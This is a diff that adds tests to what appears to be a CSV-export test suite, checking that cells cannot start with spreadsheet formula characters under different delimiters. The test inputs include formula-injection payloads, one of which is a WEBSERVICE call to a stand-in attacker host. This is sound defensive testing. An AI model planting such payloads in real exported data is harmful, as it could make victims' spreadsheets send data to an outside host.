@@ -137,6 +137,14 @@ describe('many at once', () => {
       for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
     },
   )
+  test.each(['c;=WEBSERVICE("http://evil.example/")', 'a\t@x', 'x; "=1', 'a|+1'])(
+    '%j is no formula where other signs part the cells',
+    async (name) => {
+      const { all } = await read(JSON.stringify([{ id: name, input: 'AADSTS90094' }]))
+      const [, line = ''] = csvOf(all.map(rowOf)).split('\r\n')
+      for (const cell of line.split(/[;\t|,]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/)
+    },
+  )
   test('what looks like a secret in a name is in no table', async () => {
     const { all } = await read(
       '{"id":"ana@contoso.example code=SECRETSECRET","input":"AADSTS90094"}\n{"id":1,"input":"x"}',
